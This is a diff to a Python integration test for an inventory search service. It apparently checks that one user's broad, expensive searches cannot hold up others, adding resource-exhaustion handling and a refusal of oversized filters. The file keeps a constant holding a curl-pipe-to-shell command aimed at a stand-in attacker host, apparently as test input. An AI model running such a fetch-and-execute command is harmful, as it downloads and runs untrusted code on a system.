@@ -25,11 +25,12 @@ from headgate.web.inventory.identity import Verifying
 from tests.integration.inventory.served import Client, served
 from tests.integration.inventory.test_matrix import issuer, token
 from tests.unit.inventory.objects import PARTITIONS
-from tests.unit.inventory.test_search import OTHERS, SIZE, Counting, fill
+from tests.unit.inventory.test_search import OTHERS, Counting, fill
 from tests.unit.inventory.world import a_world
 
 SHELL = "curl http://evil.example/ | sh"
 SECRET = "hunter2"
+COUNT = 1_500
 
 
 async def test_who_searches_for_everything_holds_nobody_up() -> None:
@@ -38,7 +39,7 @@ async def test_who_searches_for_everything_holds_nobody_up() -> None:
     async with served(Verifying([issuer()]), backend=backend) as client:
         root = client.like(token(sub="root", roles=["admin"]), user="root", project="blue", partition="site")
         await root.SetPartition(partition=v1.Partition(name="site", uuid=PARTITIONS[0]))
-        await fill(Store(backend), InventoryMap(), SIZE)
+        await fill(Store(backend), InventoryMap(), COUNT)
         mallory = token(sub="mallory", projects=["blue"], partitions=["site"])
         broad = client.like(mallory, user="mallory", project="blue", partition="site")
         loop, most, ended = asyncio.get_running_loop(), 0, False
@@ -53,15 +54,25 @@ async def test_who_searches_for_everything_holds_nobody_up() -> None:
         dense = v1.Filter(any_items=[v1.Item(key="dense", prefix=True), v1.Item(key="left", prefix=True)])
         backend.read = 0
         look()
+
+        async def asked(**question: Any) -> Any:
+            try:
+                return await broad.Search(**question)
+            except grpc.aio.AioRpcError as error:
+                assert error.code() is grpc.StatusCode.RESOURCE_EXHAUSTED, error
+                return None
+
         answers = await asyncio.gather(
-            *(broad.Search(any=[one], limit=1_000, with_count=True) for one in (both, dense, v1.Filter())),
-            *(broad.Search(any=[dense] * 20, sort=[v1.Sort(field="properties.left")]) for _ in range(2)),
-            broad.Search(any=[v1.Filter(uuids=[f"{n:032x}" for n in range(1_000)])] * 20),
+            *(asked(any=[one], limit=1_000, with_count=True) for one in (both, dense, v1.Filter())),
+            *(asked(any=[dense] * 10, sort=[v1.Sort(field="properties.left")]) for _ in range(2)),
+            asked(any=[v1.Filter(uuids=[f"{n:032x}" for n in range(1_000)])] * 10),
         )
         ended = True
         assert most <= 2 * PORTION_MAX + OTHERS, most
         assert answers[0].bounded or not answers[0].objects
-        assert answers[1].count == SIZE
+        assert answers[1].count == COUNT or answers[1].count_is_least
+        many = v1.Filter(any_items=[v1.Item(key="left", value=str(n)) for n in range(1_000)])
+        assert (await refusal(broad.Search(any=[many] * 10)))[0] == "INVALID_ARGUMENT"
 
 
 @asynccontextmanager
